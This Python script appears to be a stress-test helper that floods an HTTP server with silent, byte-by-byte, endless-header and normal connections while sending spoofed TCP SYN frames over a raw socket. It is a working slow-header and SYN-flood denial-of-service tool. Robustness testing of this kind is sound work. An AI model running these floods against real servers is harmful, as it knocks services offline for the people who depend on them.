# SPDX-License-Identifier: BSD-2-Clause
"""Many HTTP clients that mean no good, as a program of its own: it takes no time from the test's other clients.

    python3 httpflood.py SERVER CONNECTIONS INTERFACE MAC ADDRESS...

Opens so many connections to SERVER, some hundred at a time, from the host's addresses in turn. Some say nothing, some
send their head byte by byte, some send a head without an end, some ask as others do. Meanwhile SYNs leave the INTERFACE
for the server's MAC, from addresses that nobody has. Prints how many connections there were, and how they ended, as
JSON.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import random
import selectors
import socket
import sys
import time
from collections import Counter
from dataclasses import dataclass

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

AT_ONCE = 300
RATE = 1000  # connections that begin in a second
LIFE_S = 0.5
STEP_S = 0.1  # between two bytes of a slow head
SYNS_EACH = 3  # for each connection
SYN_FRAMES = 2048
KINDS = ("mute", "slow", "endless", "whole")
HEAD = b"GET /livez HTTP/1.1\r\nHost: 192.168.1.1\r\n"
LONG = b"X-Field: " + b"y" * 9000 + b"\r\n"  # longer than a head may be


@dataclass(eq=False)
class Client:
    socket: socket.socket
    kind: str
    since: float
    last: float = 0.0
    opened: bool = False
    sent: int = 0


class Flood:
    """All connections; `ends` counts how they ended."""

    def __init__(self, server: str, count: int, addresses: list[str]) -> None:
        self.server, self.left, self.addresses = server, count, addresses
        self.number = 0
        self.began = time.monotonic()
        self.ends: Counter[str] = Counter()
        self.clients: set[Client] = set()
        self.selector = selectors.DefaultSelector()

    def open(self) -> None:
        one = socket.socket()
        one.setblocking(False)
        one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: the port is free for each remote end
        one.bind((self.addresses[self.number % len(self.addresses)], 0))
        self.number += 1
        if one.connect_ex((self.server, 80)) not in (0, errno.EINPROGRESS):
            raise OSError("no connection can begin")
        client = Client(one, KINDS[self.number % len(KINDS)], time.monotonic())
        self.clients.add(client)
        self.selector.register(one, selectors.EVENT_READ | selectors.EVENT_WRITE, client)

    def end(self, client: Client, how: str) -> None:
        self.selector.unregister(client.socket)
        client.socket.close()
        self.clients.discard(client)
        self.ends[how if client.opened else "never opened"] += 1
        self.left -= client.opened

    def send(self, client: Client, now: float) -> None:
        if client.kind == "slow" and now - client.last >= STEP_S:
            client.socket.send(HEAD[client.sent % len(HEAD):][:1])
            client.last, client.sent = now, client.sent + 1
        elif client.kind == "endless":
            client.socket.send(LONG if client.sent else HEAD)
            client.sent += 1
        elif client.kind == "whole" and not client.sent:
            client.socket.send(HEAD + b"\r\n")
            client.sent = 1

    def handle(self, client: Client, events: int, now: float) -> None:
        try:
            if events & selectors.EVENT_READ:
                data = client.socket.recv(4096)
                client.opened = True
                if not data or client.kind == "whole":
                    self.end(client, f"{client.kind}: " + (data[:12].decode("latin-1") if data else "closed"))
                    return
            if events & selectors.EVENT_WRITE:
                if error := client.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    raise OSError(error, os.strerror(error))
                client.opened = True
                self.send(client, now)
                mute = client.kind == "mute" or (client.kind == "whole" and client.sent)
                self.selector.modify(client.socket, selectors.EVENT_READ | (0 if mute else selectors.EVENT_WRITE),
                                     client)
        except BlockingIOError:
            pass
        except OSError as error:
            # One that nobody accepted is refused; a reset may come before we have seen that it was opened.
            client.opened |= error.errno in (errno.ECONNRESET, errno.EPIPE)
            self.end(client, f"{client.kind}: reset")

    def step(self) -> int:
        """Opens what is missing, and does what there is to do; gives the number of connections that were opened."""
        due = int((time.monotonic() - self.began) * RATE) - self.number
        begin = min(due, min(AT_ONCE, self.left) - len(self.clients))
        for _ in range(begin):
            self.open()
        now = time.monotonic()
        for key, events in self.selector.select(0.02):
            self.handle(key.data, events, now)
        for client in [one for one in self.clients if now - one.since > LIFE_S * (1 if one.opened else 10)]:
            self.end(client, f"{client.kind}: left")
        time.sleep(0.005)  # slow heads are always ready to be written
        return max(begin, 0)


def syns(server: str, mac: str) -> list[bytes]:
    """Frames with SYNs of hosts that are not there."""
    chance = random.Random(80)
    return [bytes(Ether(src=f"02:00:00:00:77:{number % 64:02x}", dst=mac) /
                  IP(src=f"192.168.1.{160 + number % 64}", dst=server) /
                  TCP(sport=1024 + chance.randrange(64000), dport=80, seq=chance.getrandbits(32)))
            for number in range(SYN_FRAMES)]


def main() -> None:
    server, count, interface, mac, *addresses = sys.argv[1:]
    flood = Flood(server, int(count), addresses)
    frames = syns(server, mac)
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0x0800))
    sent = 0
    while flood.left:
        for _ in range(flood.step() * SYNS_EACH):
            with contextlib.suppress(BlockingIOError):
                raw.send(frames[sent % len(frames)])
            sent += 1
    print(json.dumps({"opened": int(count) - flood.left, "syns": sent, "ends": flood.ends}))


if __name__ == "__main__":
    main()
